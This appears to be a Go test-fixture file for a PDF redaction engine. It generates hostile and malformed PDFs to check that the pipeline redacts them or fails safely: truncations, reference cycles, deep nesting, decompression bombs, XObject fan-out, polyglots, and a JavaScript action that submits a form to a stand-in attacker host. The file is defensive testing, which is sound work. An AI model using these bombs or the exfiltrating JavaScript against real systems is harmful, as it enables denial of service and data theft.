package hostile

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"fmt"
	"io"
	"math/rand/v2"
	"strings"

	"github.com/redactd/redactd/engine/config"
	"github.com/redactd/redactd/internal/testkit/testpdf"
)

// Messages the pipeline gives documents that fail (engine/pipeline
// source.go and process.go); cases match on these substrings.
const (
	msgUnsupported = "unsupported file type"
	msgPassword    = "password-protected"
	msgUnreadable  = "could not be read" // "the PDF could not be read", "page N of the PDF could not be read"
	msgNoMemory    = "needs more memory than allowed"
	msgPageLimit   = "the limit is"
	msgTooLarge    = "too large"
	msgImage       = "could not be decoded"
)

// NormalPDF is a well-formed three-line, one-page document with an
// e-mail address and a phone number: the control that must keep working
// while hostile documents are processed next to it.
func NormalPDF() []byte {
	d := testpdf.New()
	p := d.AddPage(612, 792, 0)
	for i, l := range sampleLines {
		p.Text(72, 720-float64(i)*14, 12, l)
	}
	return d.Bytes()
}

// threePages is the base of the truncation cases: three text pages, each
// with its own content stream, so a cut loses a known part.
func threePages() []byte {
	d := newPDFDoc()
	for i := 0; i < 3; i++ {
		d.page(letter, textContent(append([]string{fmt.Sprintf("Page %d", i+1)}, sampleLines...)...), "")
	}
	return d.bytes()
}

func pdfCases() []*Case {
	var cs []*Case
	add := func(c *Case) { cs = append(cs, c) }

	base := threePages()
	cut := func(name, note string, n int, want Expect) {
		add(&Case{Name: name, Note: note, data: bytes.Clone(base[:n]), want: want})
	}
	xref := bytes.LastIndex(base, []byte("\nxref\n")) + 1
	// MuPDF rebuilds the cross-reference table of a truncated file by
	// scanning for objects: what survives the cut is redacted, and a
	// file cut before its page tree has nothing to show.
	cut("pdf-truncated-5pct", "cut in the page tree: no catalog, no pages", len(base)*5/100, failed(msgUnreadable))
	cut("pdf-truncated-50pct", "cut in the second page's content: the pages that survive, blank where lost", len(base)/2, redacted(3))
	cut("pdf-truncated-90pct", "cut in the last objects", len(base)*9/10, redacted(3))
	cut("pdf-truncated-at-xref", "no xref table, no trailer", xref, redacted(3))
	cut("pdf-truncated-in-xref", "xref table cut in the middle", xref+40, redacted(3))
	cut("pdf-truncated-no-eof", "startxref but no %%EOF", bytes.LastIndex(base, []byte("%%EOF")), redacted(3))

	add(&Case{Name: "pdf-corrupt-random", Note: "a PDF header followed by 64 KiB of random bytes",
		build: func() []byte { return append([]byte("%PDF-1.7\n"), randomBytes(1, 64<<10)...) }, want: failed(msgUnreadable)})
	add(&Case{Name: "pdf-corrupt-bitflips", Note: "one byte in 50 of a valid file overwritten",
		build: func() []byte { return flipBytes(base, 50, 2) }, want: failed(msgUnreadable)})
	add(&Case{Name: "pdf-header-only", Note: "just %PDF-1.7", build: func() []byte { return []byte("%PDF-1.7\n") }, want: failed(msgUnreadable)})
	add(&Case{Name: "wrong-magic", Note: "a PDF whose header reads %PDX", build: func() []byte { return bytes.Replace(NormalPDF(), []byte("%PDF-"), []byte("%PDX-"), 1) },
		want: failed(msgUnsupported)})
	add(&Case{Name: "pdf-header-after-1kib", Note: "2 KiB of junk before %PDF-: beyond where readers look",
		build: func() []byte { return append(bytes.Repeat([]byte("junk "), 400), NormalPDF()...) }, want: failed(msgUnsupported)})
	add(&Case{Name: "elf-binary", Note: "an executable's header", build: func() []byte { return append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 120)...) },
		want: failed(msgUnsupported)})
	add(&Case{Name: "zero-bytes", Note: "an empty file", build: func() []byte { return []byte{} }, want: failed(msgUnsupported)})

	// Encryption.
	enc := func(user, owner string) []byte {
		d := testpdf.New()
		p := d.AddPage(612, 792, 0)
		p.Text(72, 720, 12, sampleLines[1])
		d.Encrypt(user, owner)
		return d.Bytes()
	}
	add(&Case{Name: "pdf-encrypted-user-password", Note: "RC4 with a user password", build: func() []byte { return enc("secret", "owner") }, want: failed(msgPassword)})
	add(&Case{Name: "pdf-encrypted-owner-only", Note: "RC4 with an owner password only: opens without one",
		build: func() []byte { return enc("", "owner") }, want: redacted(1)})
	add(&Case{Name: "pdf-encrypt-unknown-handler", Note: "an /Encrypt dictionary naming a handler nobody has",
		build: unknownEncryption, want: failed(msgUnreadable)})

	// Active content and attachments: rendered and flattened, never run
	// nor carried over.
	add(&Case{Name: "pdf-javascript-openaction", Note: "/OpenAction and /AA JavaScript, a JS link annotation",
		build: javascriptPDF, want: redacted(1)})
	add(&Case{Name: "pdf-embedded-file", Note: "an EmbeddedFiles name tree and a FileAttachment annotation",
		build: embeddedFilePDF, want: redacted(1)})
	add(&Case{Name: "pdf-xfa-form", Note: "an XFA form (XML) beside an AcroForm field",
		build: xfaPDF, want: redacted(1)})

	// Cross-reference damage that readers repair.
	add(&Case{Name: "pdf-xref-offsets-wrong", Note: "every xref offset 7 bytes off", build: func() []byte { return shiftXref(base, 7) }, want: redacted(3)})
	add(&Case{Name: "pdf-startxref-past-eof", Note: "startxref points beyond the end of the file",
		build: func() []byte { return replaceLast(base, "startxref\n", "startxref\n99999999\n%%EOF\n") }, want: redacted(3)})
	add(&Case{Name: "pdf-xref-garbage", Note: "the xref table overwritten with random bytes", build: func() []byte { return garbageXref(base) }, want: redacted(3)})

	// Reference cycles.
	add(&Case{Name: "pdf-pages-kids-cycle", Note: "the page tree's /Kids contains the tree itself",
		build: func() []byte { return pagesCycle(false) }, want: failed("page 2 of the PDF " + msgUnreadable)})
	add(&Case{Name: "pdf-pages-kids-cycle-deep", Note: "two page tree nodes that are each other's kid, no page",
		build: func() []byte { return pagesCycle(true) }, want: failed(msgUnreadable)})
	add(&Case{Name: "pdf-pages-count-lies", Note: "/Count 2147483647 on a tree with one page: the count is believed, and refused",
		build: countLies, want: failed(msgPageLimit)})
	add(&Case{Name: "pdf-stream-length-self", Note: "a content stream whose /Length is a reference to itself",
		build: func() []byte { return lengthLoop(false) }, want: redacted(1)})
	add(&Case{Name: "pdf-stream-length-loop", Note: "/Length refers to an object referring back to the first",
		build: func() []byte { return lengthLoop(true) }, want: redacted(1)})
	add(&Case{Name: "pdf-xobject-recursion", Note: "a form XObject that draws itself",
		build: xobjectRecursion, want: redacted(1)})
	add(&Case{Name: "pdf-xobject-fanout", Note: "form XObjects 6 deep, each drawing the next 10 times: a million rectangles",
		build: func() []byte { return xobjectFanout(6, 10, true) }, want: redacted(1)})
	add(&Case{Name: "pdf-xobject-fanout-16e24", Long: true,
		Note:  "form XObjects 24 deep, each drawing the next 16 times: 16^24 rectangles, stopped by the memory cap",
		build: func() []byte { return xobjectFanout(24, 16, true) }, want: failed("page 1 of the PDF " + msgUnreadable)})
	add(&Case{Name: "pdf-xobject-fanout-empty", Long: true,
		Note:  "form XObjects 24 deep, each drawing the next 16 times, the last drawing nothing: stopped by the memory cap",
		build: func() []byte { return xobjectFanout(24, 16, false) }, want: failed("page 1 of the PDF " + msgUnreadable)})

	// Nesting.
	add(&Case{Name: "pdf-deep-array", Note: "100000 nested arrays in the page dictionary",
		build: func() []byte { return deepNesting(100000, "[", "]") }, want: redacted(1)})
	add(&Case{Name: "pdf-deep-dict", Note: "100000 nested dictionaries in the page dictionary",
		build: func() []byte { return deepNesting(100000, "<</A ", ">>") }, want: redacted(1)})
	add(&Case{Name: "pdf-deep-content-array", Note: "100000 nested arrays as a content stream operand",
		build: func() []byte {
			return contentPDF(letter, []byte(strings.Repeat("[", 100000)+strings.Repeat("]", 100000)+" pop\n"+string(textContent(sampleLines...))))
		}, want: failed("page 1 of the PDF " + msgUnreadable)})
	add(&Case{Name: "pdf-deep-q", Note: "a million unbalanced q (save state) operators",
		build: func() []byte {
			return contentPDF(letter, append(bytes.Repeat([]byte("q "), 1_000_000), textContent(sampleLines...)...))
		}, want: failed("page 1 of the PDF " + msgUnreadable)})

	// Page counts and sizes.
	add(manyPages("pdf-2500-pages", 2500))
	add(manyPages("pdf-10000-pages", 10000))
	add(&Case{Name: "pdf-page-20000pt", Note: "a 20000 x 20000 pt page: rendered at a reduced resolution",
		build: func() []byte { return contentPDF("[0 0 20000 20000]", textContent(sampleLines...)) }, want: redacted(1)})
	add(&Case{Name: "pdf-page-14400x200000pt", Note: "a 14400 x 200000 pt page: too large even at the lowest resolution",
		build: func() []byte { return contentPDF("[0 0 14400 200000]", textContent(sampleLines...)) }, want: failed(msgTooLarge)})
	add(&Case{Name: "pdf-mediabox-huge", Note: "MediaBox [0 0 1e30 1e30] written out in digits",
		build: func() []byte {
			return contentPDF("[0 0 1"+strings.Repeat("0", 30)+" 1"+strings.Repeat("0", 30)+"]", textContent(sampleLines...))
		}, want: failed(msgTooLarge)})
	add(&Case{Name: "pdf-mediabox-negative", Note: "MediaBox [0 0 -612 -792]",
		build: func() []byte { return contentPDF("[0 0 -612 -792]", textContent(sampleLines...)) }, want: redacted(1)})
	add(&Case{Name: "pdf-mediabox-nan", Note: "MediaBox [0 0 nan inf]: not numbers",
		build: func() []byte { return contentPDF("[0 0 nan inf]", textContent(sampleLines...)) }, want: redacted(1)})
	add(&Case{Name: "pdf-mediabox-empty", Note: "MediaBox [100 100 100 100]",
		build: func() []byte { return contentPDF("[100 100 100 100]", textContent(sampleLines...)) }, want: redacted(1)})

	// Images and filters.
	add(&Case{Name: "pdf-image-100000px", Note: "an image XObject claiming 100000 x 100000 RGB pixels, 1 KiB of data",
		build: func() []byte {
			return imagePDF("/Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode", zlibBytes(make([]byte, 1024)))
		}, want: redacted(1)})
	add(&Case{Name: "pdf-flate-bomb-content", Note: "a 1 MiB content stream inflating to 1 GiB of blanks",
		build: func() []byte { return contentPDFRaw(letter, "/Filter /FlateDecode", zlibZeros(1<<30)) }, want: redacted(1)})
	add(&Case{Name: "pdf-flate-bomb-content-8gib", Long: true,
		Note:  "an 8 MiB content stream inflating to 8 GiB: cut at the decoding cap, the text after it lost",
		build: func() []byte { return contentPDFRaw(letter, "/Filter /FlateDecode", zlibZeros(8<<30)) }, want: redacted(1)})
	add(&Case{Name: "pdf-flate-bomb-image", Note: "a 20000 x 20000 RGB image whose 1.2 MB stream inflates to 1.2 GB",
		build: func() []byte {
			return imagePDF("/Width 20000 /Height 20000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode", zlibZeros(1200<<20))
		}, want: redacted(1)})
	add(&Case{Name: "pdf-flate-bomb-unused", Note: "an unreferenced stream inflating to 4 GiB",
		build: unusedBomb, want: redacted(1)})
	add(&Case{Name: "pdf-filter-chain-double-flate",
		Note: "a content stream compressed twice: 40 KB inflating to 16 GiB of blanks; cut at the decoding cap",
		build: func() []byte {
			return contentPDFRaw(letter, "/Filter [/FlateDecode /FlateDecode]", zlibBytes(zlibZeros(16<<30)))
		}, want: redacted(1)})
	add(&Case{Name: "pdf-filter-chain-mixed", Note: "an image behind /ASCIIHexDecode /ASCII85Decode /FlateDecode",
		build: filterChainImage, want: redacted(1)})
	add(&Case{Name: "pdf-filter-chain-1000", Note: "an image stream behind 1000 /FlateDecode filters",
		build: func() []byte { return deepFilterChain(1000) }, want: failed("page 1 of the PDF " + msgNoMemory)})
	add(&Case{Name: "pdf-filter-unknown", Note: "an image with /Filter /NoSuchDecode",
		build: func() []byte {
			return imagePDF("/Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /NoSuchDecode", make([]byte, 64))
		}, want: redacted(1)})
	add(&Case{Name: "pdf-image-wrong-length-short", Note: "an image whose /Length is 10 for 30000 bytes of data",
		build: func() []byte { return wrongLengthImage("10") }, want: redacted(1)})
	add(&Case{Name: "pdf-image-wrong-length-huge", Note: "an image whose /Length is 2^62",
		build: func() []byte { return wrongLengthImage("4611686018427387904") }, want: failed("page 1 of the PDF " + msgNoMemory)})
	add(&Case{Name: "pdf-inline-image-bomb", Note: "an inline image claiming 30000 x 30000 RGB, its data a 2.7 GB flate bomb",
		build: func() []byte {
			return contentPDF(letter, append(append([]byte("q 100 0 0 100 72 500 cm BI /W 30000 /H 30000 /CS /RGB /BPC 8 /F /Fl ID "),
				zlibZeros(2700<<20)...), []byte(" EI Q\n"+string(textContent(sampleLines...)))...))
		}, want: failed("page 1 of the PDF " + msgNoMemory)})
	add(&Case{Name: "pdf-inline-image-no-ei", Note: "an inline image without EI running to the end of the stream",
		build: func() []byte {
			return contentPDF(letter, append(textContent(sampleLines...), []byte("BI /W 100 /H 100 /CS /G /BPC 8 ID ")...))
		}, want: redacted(1)})
	add(&Case{Name: "pdf-font-broken-glyphs", Note: "an embedded TrueType font of random bytes and a Type3 font with broken CharProcs",
		build: brokenFonts, want: redacted(1)})

	// Huge annotations and form values.
	add(&Case{Name: "pdf-annot-huge-contents", Note: "a Text annotation with 16 MB /Contents and a FreeText with 1 MB and no appearance",
		build: func() []byte { return hugeAnnots(16<<20, 1<<20) }, want: redacted(1)})
	add(&Case{Name: "pdf-annots-20000", Note: "20000 FreeText annotations without appearance streams on one page",
		build: func() []byte { return manyAnnots(20000) }, want: redacted(1)})
	add(&Case{Name: "pdf-image-drawn-2000-times", Note: "one 1000 x 1000 RGB image drawn 2000 times over the page",
		build: func() []byte { return imageManyTimes(2000) }, want: redacted(1)})
	add(&Case{Name: "pdf-form-field-1mb", Note: "a text field with a 1 MB value and NeedAppearances",
		build: func() []byte { return hugeField(1 << 20) }, want: redacted(1)})

	// Polyglots.
	add(&Case{Name: "polyglot-pdf-zip", Note: "a PDF with a ZIP archive appended (both read)", build: pdfThenZip, want: redacted(1)})
	add(&Case{Name: "polyglot-zip-pdf", Note: "a ZIP archive whose first (stored) member is a PDF", build: zipWithPDF, want: redacted(1)})

	// Size.
	add(paddedPDF())
	return cs
}

// randomBytes is n bytes from a seeded generator: the same every run.
func randomBytes(seed uint64, n int) []byte {
	r := rand.New(rand.NewPCG(seed, 0x686f7374696c65))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

// flipBytes overwrites every nth byte after the header with a random one.
func flipBytes(b []byte, n int, seed uint64) []byte {
	out := bytes.Clone(b)
	r := rand.New(rand.NewPCG(seed, 1))
	for i := 16; i < len(out); i += n {
		out[i] = byte(r.Uint32())
	}
	return out
}

func replaceLast(b []byte, from, to string) []byte {
	i := bytes.LastIndex(b, []byte(from))
	if i < 0 {
		panic("hostile: replaceLast: " + from + " not found")
	}
	return append(bytes.Clone(b[:i]), to...)
}

// contentPDF is a one-page document with content as its content stream.
func contentPDF(box string, content []byte) []byte {
	d := newPDFDoc()
	d.page(box, content, "")
	return d.bytes()
}

// contentPDFRaw is contentPDF with content already encoded as dict says.
func contentPDFRaw(box, dict string, content []byte) []byte {
	d := newPDFDoc()
	c := d.r.stream(dict, content)
	p := d.r.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox %s /Contents [%d 0 R %d 0 R] /Resources << /Font << /F1 %d 0 R >> >> >>",
		d.pages, box, c, d.r.stream("", textContent(sampleLines...)), d.font))
	d.kids = append(d.kids, fmt.Sprintf("%d 0 R", p))
	return d.bytes()
}

// imagePDF is a text page that also draws an image XObject with the
// given dictionary entries and (encoded) data over a 200 x 200 pt area.
func imagePDF(dict string, data []byte) []byte {
	d := newPDFDoc()
	im := d.r.stream("/Type /XObject /Subtype /Image "+dict, data)
	content := append([]byte("q 200 0 0 200 72 400 cm /Im1 Do Q\n"), textContent(sampleLines...)...)
	c := d.r.stream("", content)
	p := d.r.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox %s /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> /XObject << /Im1 %d 0 R >> >> >>",
		d.pages, letter, c, d.font, im))
	d.kids = append(d.kids, fmt.Sprintf("%d 0 R", p))
	return d.bytes()
}

func unknownEncryption() []byte {
	d := newPDFDoc()
	d.textPage("")
	e := d.r.add("<< /Filter /NoSuchHandler /V 9 /R 9 /Length 512 >>")
	d.r.trailer = fmt.Sprintf(" /Encrypt %d 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]", e)
	return d.bytes()
}

func javascriptPDF() []byte {
	d := newPDFDoc()
	js := d.r.stream("", []byte(`app.alert("hostile"); this.submitForm("http://attacker.invalid/");`))
	action := d.r.add(fmt.Sprintf("<< /Type /Action /S /JavaScript /JS %d 0 R >>", js))
	link := d.r.add(`<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /JavaScript /JS (app.launchURL\("http://attacker.invalid"\);) >> >>`)
	d.textPage(fmt.Sprintf(" /Annots [%d 0 R] /AA << /O %d 0 R >>", link, action))
	names := d.r.add(fmt.Sprintf("<< /Names [(init) %d 0 R] >>", action))
	d.cat = fmt.Sprintf(" /OpenAction %d 0 R /Names << /JavaScript %d 0 R >>", action, names)
	return d.bytes()
}

func embeddedFilePDF() []byte {
	d := newPDFDoc()
	ef := d.r.stream("/Type /EmbeddedFile /Subtype /application#2Foctet-stream", []byte("MZ this would be an executable"))
	spec := d.r.add(fmt.Sprintf("<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F %d 0 R >> >>", ef))
	annot := d.r.add(fmt.Sprintf("<< /Type /Annot /Subtype /FileAttachment /Rect [400 700 420 720] /FS %d 0 R /Contents (open me) /Name /Paperclip >>", spec))
	d.textPage(fmt.Sprintf(" /Annots [%d 0 R]", annot))
	tree := d.r.add(fmt.Sprintf("<< /Names [(payload.exe) %d 0 R] >>", spec))
	d.cat = fmt.Sprintf(" /Names << /EmbeddedFiles %d 0 R >>", tree)
	return d.bytes()
}

func xfaPDF() []byte {
	d := newPDFDoc()
	xfa := d.r.stream("", []byte(`<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field name="ssn"><value><text>078-05-1120</text></value></field></subform></template></xdp:xdp>`))
	field := d.r.reserve()
	pg := d.textPage(fmt.Sprintf(" /Annots [%d 0 R]", field))
	d.r.set(field, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Jane Doe) /Rect [72 600 300 620] /P %d 0 R /DA (/Helv 10 Tf 0 g) >>", pg))
	d.cat = fmt.Sprintf(" /AcroForm << /Fields [%d 0 R] /XFA %d 0 R /NeedsRendering true /NeedAppearances true /DR << /Font << /Helv %d 0 R >> >> >>", field, xfa, d.font)
	return d.bytes()
}

// shiftXref moves every offset of the xref table by delta bytes.
func shiftXref(b []byte, delta int) []byte {
	start := bytes.LastIndex(b, []byte("\nxref\n")) + 1
	end := bytes.Index(b[start:], []byte("trailer")) + start
	table := string(b[start:end])
	lines := strings.Split(table, "\r\n")
	for i, l := range lines {
		var off, gen int
		var kind string
		if n, _ := fmt.Sscanf(l, "%010d %05d %s", &off, &gen, &kind); n == 3 && kind == "n" {
			lines[i] = fmt.Sprintf("%010d %05d n", off+delta, gen)
		}
	}
	out := append(bytes.Clone(b[:start]), strings.Join(lines, "\r\n")...)
	return append(out, b[end:]...)
}

// garbageXref overwrites the xref table's entries with random bytes.
func garbageXref(b []byte) []byte {
	out := bytes.Clone(b)
	start := bytes.LastIndex(out, []byte("\nxref\n")) + 6
	end := bytes.Index(out[start:], []byte("trailer")) + start
	copy(out[start:end], randomBytes(3, end-start))
	return out
}

// pagesCycle: without deep, the root node lists a page and itself; with
// deep, the root's only kid is a node whose only kid is the root.
func pagesCycle(deep bool) []byte {
	var r rawPDF
	cat := r.add("<< /Type /Catalog /Pages 2 0 R >>")
	r.reserve() // 2: the root node
	font := r.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	c := r.stream("", textContent(sampleLines...))
	pg := r.add(fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> >> >>", letter, c, font))
	if deep {
		mid := r.add("<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>")
		r.set(2, fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R] /Count 1 >>", mid))
	} else {
		r.set(2, fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R 2 0 R] /Count 2 >>", pg))
	}
	return r.bytes(cat)
}

func countLies() []byte {
	d := newPDFDoc()
	d.textPage("")
	b := d.bytes()
	return bytes.Replace(b, []byte("/Count 1 >>"), []byte("/Count 2147483647 >>"), 1)
}

// lengthLoop: a content stream whose /Length is itself (or, with loop,
// an object that is a reference back to the stream's /Length object).
func lengthLoop(loop bool) []byte {
	d := newPDFDoc()
	content := textContent(sampleLines...)
	c := d.r.reserve()
	if loop {
		a := d.r.reserve()
		bb := d.r.add(fmt.Sprintf("%d 0 R", a))
		d.r.set(a, fmt.Sprintf("%d 0 R", bb))
		d.r.objs[c-1] = streamObj("", fmt.Sprintf("%d 0 R", a), content)
	} else {
		d.r.objs[c-1] = streamObj("", fmt.Sprintf("%d 0 R", c), content)
	}
	p := d.r.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox %s /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> >> >>", d.pages, letter, c, d.font))
	d.kids = append(d.kids, fmt.Sprintf("%d 0 R", p))
	return d.bytes()
}

func xobjectRecursion() []byte {
	d := newPDFDoc()
	x := d.r.reserve()
	d.r.objs[x-1] = streamObj(fmt.Sprintf("/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X %d 0 R >> >>", x),
		"18", []byte("0 0 50 50 re f /X Do"))
	content := append([]byte("/X Do\n"), textContent(sampleLines...)...)
	c := d.r.stream("", content)
	p := d.r.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox %s /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> /XObject << /X %d 0 R >> >> >>",
		d.pages, letter, c, d.font, x))
	d.kids = append(d.kids, fmt.Sprintf("%d 0 R", p))
	return d.bytes()
}

// xobjectFanout is the "billion laughs" of PDF: depth form XObjects, each
// drawing the next one fan times, the last one filling a rectangle (ink)
// or doing nothing.
func xobjectFanout(depth, fan int, ink bool) []byte {
	d := newPDFDoc()
	leaf := "q Q"
	if ink {
		leaf = "0 0 1 1 re f"
	}
	prev := d.r.stream("/Type /XObject /Subtype /Form /BBox [0 0 10 10]", []byte(leaf))
	for i := 1; i < depth; i++ {
		prev = d.r.stream(fmt.Sprintf("/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /XObject << /X %d 0 R >> >>", prev),
			[]byte(strings.Repeat("/X Do ", fan)))
	}
	content := append([]byte("/X Do\n"), textContent(sampleLines...)...)
	c := d.r.stream("", content)
	p := d.r.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox %s /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> /XObject << /X %d 0 R >> >> >>",
		d.pages, letter, c, d.font, prev))
	d.kids = append(d.kids, fmt.Sprintf("%d 0 R", p))
	return d.bytes()
}

func deepNesting(n int, open, close string) []byte {
	d := newPDFDoc()
	d.textPage(" /Deep " + strings.Repeat(open, n) + strings.Repeat(close, n))
	return d.bytes()
}

// manyPages is a document of n small pages sharing one content stream
// and one resource dictionary, about 100 bytes a page. Processing it
// fails on the page limit when n is above cfg.MaxPagesPerDoc, and
// renders every page otherwise.
func manyPages(name string, n int) *Case {
	c := &Case{Name: name, Note: fmt.Sprintf("%d pages sharing one content stream", n)}
	c.build = func() []byte {
		d := newPDFDoc()
		content := d.r.stream("", []byte("BT /F1 10 Tf 10 40 Td (jane.doe@example.com) Tj ET"))
		res := d.r.add(fmt.Sprintf("<< /Font << /F1 %d 0 R >> >>", d.font))
		// Pages inherit MediaBox and Resources from the tree.
		d.pagesExtra = fmt.Sprintf(" /MediaBox [0 0 200 100] /Resources %d 0 R", res)
		for i := 0; i < n; i++ {
			p := d.r.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /Contents %d 0 R >>", d.pages, content))
			d.kids = append(d.kids, fmt.Sprintf("%d 0 R", p))
		}
		return d.bytes()
	}
	c.wantFn = func(cfg config.Config) Expect {
		if n > cfg.MaxPagesPerDoc {
			return failed(msgPageLimit)
		}
		return redacted(n)
	}
	return c
}

func unusedBomb() []byte {
	d := newPDFDoc()
	d.textPage("")
	d.r.stream("/Filter /FlateDecode", zlibZeros(4<<30))
	return d.bytes()
}

// filterChainImage is a 16 x 16 gray gradient encoded with Flate, then
// ASCII85, then ASCIIHex (so decoded in the opposite order).
func filterChainImage() []byte {
	px := make([]byte, 256)
	for i := range px {
		px[i] = byte(i)
	}
	data := []byte(fmt.Sprintf("%x>", ascii85(zlibBytes(px))))
	return imagePDF("/Width 16 /Height 16 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter [/ASCIIHexDecode /ASCII85Decode /FlateDecode]", data)
}

func ascii85(b []byte) []byte {
	var out bytes.Buffer
	for len(b) > 0 {
		var chunk [4]byte
		n := copy(chunk[:], b)
		b = b[n:]
		v := uint32(chunk[0])<<24 | uint32(chunk[1])<<16 | uint32(chunk[2])<<8 | uint32(chunk[3])
		var enc [5]byte
		for i := 4; i >= 0; i-- {
			enc[i] = byte(v%85) + '!'
			v /= 85
		}
		out.Write(enc[:n+1])
	}
	out.WriteString("~>")
	return out.Bytes()
}

// deepFilterChain is a small gray image compressed n times over, its
// /Filter an array of n /FlateDecode.
func deepFilterChain(n int) []byte {
	data := make([]byte, 64)
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	for i := 0; i < n; i++ {
		z.Reset()
		zw.Reset(&z)
		zw.Write(data) // a bytes.Buffer does not fail
		zw.Close()
		data = bytes.Clone(z.Bytes())
	}
	return imagePDF("/Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter ["+strings.Repeat("/FlateDecode ", n)+"]", data)
}

func wrongLengthImage(length string) []byte {
	d := newPDFDoc()
	data := randomBytes(4, 100*100*3)
	im := d.r.addBytes(streamObj("/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 8", length, data))
	content := append([]byte("q 200 0 0 200 72 400 cm /Im1 Do Q\n"), textContent(sampleLines...)...)
	c := d.r.stream("", content)
	p := d.r.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox %s /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> /XObject << /Im1 %d 0 R >> >> >>",
		d.pages, letter, c, d.font, im))
	d.kids = append(d.kids, fmt.Sprintf("%d 0 R", p))
	return d.bytes()
}

// brokenFonts draws text with an embedded TrueType font whose program is
// random bytes, and with a Type3 font whose glyph procedure is garbage
// and refers to itself.
func brokenFonts() []byte {
	d := newPDFDoc()
	ff := d.r.stream("/Length1 4096", randomBytes(5, 4096))
	desc := d.r.add(fmt.Sprintf("<< /Type /FontDescriptor /FontName /Broken /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 %d 0 R >>", ff))
	tt := d.r.add(fmt.Sprintf("<< /Type /Font /Subtype /TrueType /BaseFont /Broken /FirstChar 32 /LastChar 126 /Widths [%s] /FontDescriptor %d 0 R >>",
		strings.TrimSpace(strings.Repeat("500 ", 95)), desc))
	proc := d.r.stream("", []byte("1000 0 0 0 750 750 d1 0 0 m 750 750 l ] ] >> BT /T3 1 Tf (a) Tj ET f"))
	t3 := d.r.add(fmt.Sprintf("<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << /a %d 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1000] /Resources << /Font << /T3 SELF >> >> >>", proc))
	d.r.set(t3, strings.Replace(string(d.r.objs[t3-1]), "SELF", fmt.Sprintf("%d 0 R", t3), 1))
	content := []byte("BT /TT 12 Tf 72 650 Td (Broken TrueType glyphs) Tj ET BT /T3 24 Tf 72 600 Td (aaaa) Tj ET\n")
	content = append(content, textContent(sampleLines...)...)
	c := d.r.stream("", content)
	p := d.r.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox %s /Contents %d 0 R /Resources << /Font << /F1 %d 0 R /TT %d 0 R /T3 %d 0 R >> >> >>",
		d.pages, letter, c, d.font, tt, t3))
	d.kids = append(d.kids, fmt.Sprintf("%d 0 R", p))
	return d.bytes()
}

func hugeAnnots(textBytes, freeTextBytes int) []byte {
	d := newPDFDoc()
	big := strings.Repeat("jane.doe@example.com ", textBytes/21+1)[:textBytes]
	text := d.r.add("<< /Type /Annot /Subtype /Text /Rect [500 700 520 720] /Contents (" + big + ") /Open true >>")
	ft := strings.Repeat("Jane Doe 555 0134 ", freeTextBytes/18+1)[:freeTextBytes]
	free := d.r.add(fmt.Sprintf("<< /Type /Annot /Subtype /FreeText /Rect [72 300 540 500] /Contents (%s) /DA (/Helv 10 Tf 0 g) >>", ft))
	d.textPage(fmt.Sprintf(" /Annots [%d 0 R %d 0 R]", text, free))
	return d.bytes()
}

func hugeField(n int) []byte {
	d := newPDFDoc()
	field := d.r.reserve()
	pg := d.textPage(fmt.Sprintf(" /Annots [%d 0 R]", field))
	v := strings.Repeat("078-05-1120 ", n/12+1)[:n]
	d.r.set(field, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /Ff 4096 /T (notes) /V (%s) /Rect [72 200 540 500] /P %d 0 R /DA (/Helv 10 Tf 0 g) >>", v, pg))
	d.cat = fmt.Sprintf(" /AcroForm << /Fields [%d 0 R] /NeedAppearances true /DR << /Font << /Helv %d 0 R >> >> >>", field, d.font)
	return d.bytes()
}

func pdfThenZip() []byte {
	var b bytes.Buffer
	b.Write(NormalPDF())
	zw := zip.NewWriter(&b)
	zw.SetOffset(int64(b.Len()))
	w, _ := zw.Create("readme.txt")
	io.WriteString(w, "this file is also a ZIP archive\n")
	zw.Close()
	return b.Bytes()
}

func zipWithPDF() []byte {
	var b bytes.Buffer
